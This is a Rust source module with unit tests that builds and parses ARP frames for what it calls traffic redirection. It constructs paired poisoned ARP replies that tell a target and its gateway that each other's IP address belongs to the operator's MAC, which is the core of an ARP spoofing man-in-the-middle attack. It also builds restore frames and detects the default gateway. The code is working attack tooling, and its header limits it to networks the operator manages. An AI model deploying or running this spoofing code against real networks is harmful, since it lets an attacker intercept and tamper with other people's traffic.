//! ARP frame construction and parsing for traffic redirection.
//!
//! Redirection poisons both directions of a target<->gateway pair: the
//! target learns our MAC for the gateway IP, and the gateway learns our
//! MAC for the target IP. Restoration sends the inverse pair with the
//! real MAC addresses.
//!
//! Requires raw socket privileges and is only meant for networks the
//! operator manages.

use std::net::Ipv4Addr;

use pnet::packet::Packet;
use pnet::packet::arp::{
    ArpHardwareTypes, ArpOperation, ArpOperations, ArpPacket, MutableArpPacket,
};
use pnet::packet::ethernet::{EtherTypes, EthernetPacket, MutableEthernetPacket};
use pnet::util::MacAddr;

use crate::error::{NetworkError, Result};

/// Broadcast MAC for ARP requests.
pub const BROADCAST_MAC: MacAddr = MacAddr(0xff, 0xff, 0xff, 0xff, 0xff, 0xff);

const ARP_PACKET_SIZE: usize = 28;
const ARP_FRAME_SIZE: usize = 14 + ARP_PACKET_SIZE;

/// A host observed via ARP.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct HostInfo {
    pub ip: Ipv4Addr,
    pub mac: MacAddr,
}

/// Builds the ARP frames the redirection engine sends.
#[derive(Debug, Clone)]
pub struct ArpFrameBuilder {
    our_ip: Ipv4Addr,
    our_mac: MacAddr,
    gateway_ip: Ipv4Addr,
}

impl ArpFrameBuilder {
    pub const fn new(our_ip: Ipv4Addr, our_mac: MacAddr, gateway_ip: Ipv4Addr) -> Self {
        Self {
            our_ip,
            our_mac,
            gateway_ip,
        }
    }

    pub const fn gateway_ip(&self) -> Ipv4Addr {
        self.gateway_ip
    }

    /// Both poison frames for one target: the target is told the gateway
    /// IP lives at our MAC, and the gateway is told the target IP lives
    /// at our MAC.
    pub fn build_spoof_pair(
        &self,
        target: HostInfo,
        gateway_mac: MacAddr,
    ) -> [Vec<u8>; 2] {
        [
            build_arp_reply(self.gateway_ip, self.our_mac, target.ip, target.mac),
            build_arp_reply(target.ip, self.our_mac, self.gateway_ip, gateway_mac),
        ]
    }

    /// Both restore frames for one target, carrying the real MACs.
    pub fn build_restore_pair(
        &self,
        target: HostInfo,
        gateway_mac: MacAddr,
    ) -> [Vec<u8>; 2] {
        [
            build_arp_reply(self.gateway_ip, gateway_mac, target.ip, target.mac),
            build_arp_reply(target.ip, target.mac, self.gateway_ip, gateway_mac),
        ]
    }

    /// Broadcast who-has request for `target_ip`.
    pub fn build_arp_request(&self, target_ip: Ipv4Addr) -> Vec<u8> {
        let mut buffer = vec![0u8; ARP_FRAME_SIZE];

        if let Some(mut ethernet) = MutableEthernetPacket::new(&mut buffer) {
            ethernet.set_destination(BROADCAST_MAC);
            ethernet.set_source(self.our_mac);
            ethernet.set_ethertype(EtherTypes::Arp);
        }

        if let Some(mut arp) = MutableArpPacket::new(&mut buffer[14..]) {
            arp.set_hardware_type(ArpHardwareTypes::Ethernet);
            arp.set_protocol_type(EtherTypes::Ipv4);
            arp.set_hw_addr_len(6);
            arp.set_proto_addr_len(4);
            arp.set_operation(ArpOperations::Request);
            arp.set_sender_hw_addr(self.our_mac);
            arp.set_sender_proto_addr(self.our_ip);
            arp.set_target_hw_addr(MacAddr::zero());
            arp.set_target_proto_addr(target_ip);
        }

        buffer
    }
}

fn build_arp_reply(
    sender_ip: Ipv4Addr,
    sender_mac: MacAddr,
    target_ip: Ipv4Addr,
    target_mac: MacAddr,
) -> Vec<u8> {
    let mut buffer = vec![0u8; ARP_FRAME_SIZE];

    if let Some(mut ethernet) = MutableEthernetPacket::new(&mut buffer) {
        ethernet.set_destination(target_mac);
        ethernet.set_source(sender_mac);
        ethernet.set_ethertype(EtherTypes::Arp);
    }

    if let Some(mut arp) = MutableArpPacket::new(&mut buffer[14..]) {
        arp.set_hardware_type(ArpHardwareTypes::Ethernet);
        arp.set_protocol_type(EtherTypes::Ipv4);
        arp.set_hw_addr_len(6);
        arp.set_proto_addr_len(4);
        arp.set_operation(ArpOperations::Reply);
        arp.set_sender_hw_addr(sender_mac);
        arp.set_sender_proto_addr(sender_ip);
        arp.set_target_hw_addr(target_mac);
        arp.set_target_proto_addr(target_ip);
    }

    buffer
}

/// Parse an ARP frame, returning its operation and the sender host.
pub fn parse_arp_packet(frame: &[u8]) -> Option<(ArpOperation, HostInfo)> {
    let ethernet = EthernetPacket::new(frame)?;

    if ethernet.get_ethertype() != EtherTypes::Arp {
        return None;
    }

    let arp = ArpPacket::new(ethernet.payload())?;

    let host = HostInfo {
        ip: arp.get_sender_proto_addr(),
        mac: arp.get_sender_hw_addr(),
    };

    Some((arp.get_operation(), host))
}

/// Detect the default gateway from the system routing table.
#[cfg(target_os = "linux")]
pub fn detect_gateway() -> Result<Ipv4Addr> {
    use std::fs;

    let route = fs::read_to_string("/proc/net/route")
        .map_err(|e| NetworkError::ChannelOpen(format!("failed to read routing table: {e}")))?;

    for line in route.lines().skip(1) {
        let fields: Vec<&str> = line.split_whitespace().collect();
        if fields.len() >= 3 && fields[1] == "00000000" {
            // Gateway field is hex, little-endian.
            let gw = u32::from_str_radix(fields[2], 16)
                .map_err(|e| NetworkError::ChannelOpen(format!("invalid gateway: {e}")))?;
            return Ok(Ipv4Addr::from(gw.to_be()));
        }
    }

    Err(NetworkError::ChannelOpen("no default gateway found".into()).into())
}

/// Detect the default gateway from the system routing table.
#[cfg(target_os = "macos")]
pub fn detect_gateway() -> Result<Ipv4Addr> {
    use std::process::Command;

    let output = Command::new("netstat")
        .args(["-rn", "-f", "inet"])
        .output()
        .map_err(|e| NetworkError::ChannelOpen(format!("failed to run netstat: {e}")))?;

    let stdout = String::from_utf8_lossy(&output.stdout);

    for line in stdout.lines() {
        let fields: Vec<&str> = line.split_whitespace().collect();
        if fields.len() >= 2 && fields[0] == "default" {
            let gateway: Ipv4Addr = fields[1]
                .parse()
                .map_err(|e| NetworkError::ChannelOpen(format!("invalid gateway IP: {e}")))?;
            return Ok(gateway);
        }
    }

    Err(NetworkError::ChannelOpen("no default gateway found".into()).into())
}

#[cfg(test)]
mod tests {
    use super::*;

    const OUR_IP: Ipv4Addr = Ipv4Addr::new(192, 168, 1, 100);
    const OUR_MAC: MacAddr = MacAddr(0xaa, 0xbb, 0xcc, 0xdd, 0xee, 0xff);
    const GATEWAY_IP: Ipv4Addr = Ipv4Addr::new(192, 168, 1, 1);
    const GATEWAY_MAC: MacAddr = MacAddr(0x00, 0x11, 0x22, 0x33, 0x44, 0x55);

    fn builder() -> ArpFrameBuilder {
        ArpFrameBuilder::new(OUR_IP, OUR_MAC, GATEWAY_IP)
    }

    fn target() -> HostInfo {
        HostInfo {
            ip: Ipv4Addr::new(192, 168, 1, 50),
            mac: MacAddr(0x11, 0x22, 0x33, 0x44, 0x55, 0x66),
        }
    }

    fn decode(frame: &[u8]) -> (EthernetPacket<'_>, ArpPacket<'_>) {
        let eth = EthernetPacket::new(frame).unwrap();
        let arp = ArpPacket::new(&frame[14..]).unwrap();
        (eth, arp)
    }

    #[test]
    fn should_poison_both_directions() {
        let [to_target, to_gateway] = builder().build_spoof_pair(target(), GATEWAY_MAC);

        let (eth, arp) = decode(&to_target);
        assert_eq!(eth.get_destination(), target().mac);
        assert_eq!(arp.get_operation(), ArpOperations::Reply);
        assert_eq!(arp.get_sender_proto_addr(), GATEWAY_IP);
        assert_eq!(arp.get_sender_hw_addr(), OUR_MAC);
        assert_eq!(arp.get_target_proto_addr(), target().ip);

        let (eth, arp) = decode(&to_gateway);
        assert_eq!(eth.get_destination(), GATEWAY_MAC);
        assert_eq!(arp.get_sender_proto_addr(), target().ip);
        assert_eq!(arp.get_sender_hw_addr(), OUR_MAC);
        assert_eq!(arp.get_target_proto_addr(), GATEWAY_IP);
    }

    #[test]
    fn should_restore_real_macs_in_both_directions() {
        let [to_target, to_gateway] = builder().build_restore_pair(target(), GATEWAY_MAC);

        let (_, arp) = decode(&to_target);
        assert_eq!(arp.get_sender_proto_addr(), GATEWAY_IP);
        assert_eq!(arp.get_sender_hw_addr(), GATEWAY_MAC);

        let (_, arp) = decode(&to_gateway);
        assert_eq!(arp.get_sender_proto_addr(), target().ip);
        assert_eq!(arp.get_sender_hw_addr(), target().mac);
    }

    #[test]
    fn should_build_broadcast_arp_request() {
        let frame = builder().build_arp_request(target().ip);
        assert_eq!(frame.len(), ARP_FRAME_SIZE);

        let (eth, arp) = decode(&frame);
        assert_eq!(eth.get_ethertype(), EtherTypes::Arp);
        assert_eq!(eth.get_destination(), BROADCAST_MAC);
        assert_eq!(arp.get_operation(), ArpOperations::Request);
        assert_eq!(arp.get_sender_proto_addr(), OUR_IP);
        assert_eq!(arp.get_target_proto_addr(), target().ip);
    }

    #[test]
    fn should_parse_arp_reply_into_host_info() {
        let [frame, _] = builder().build_spoof_pair(target(), GATEWAY_MAC);

        let (operation, host) = parse_arp_packet(&frame).unwrap();
        assert_eq!(operation, ArpOperations::Reply);
        assert_eq!(host.ip, GATEWAY_IP);
        assert_eq!(host.mac, OUR_MAC);
    }

    #[test]
    fn should_return_none_for_non_arp_frame() {
        let mut buffer = vec![0u8; 64];
        if let Some(mut ethernet) = MutableEthernetPacket::new(&mut buffer) {
            ethernet.set_ethertype(EtherTypes::Ipv4);
        }

        assert!(parse_arp_packet(&buffer).is_none());
    }
}
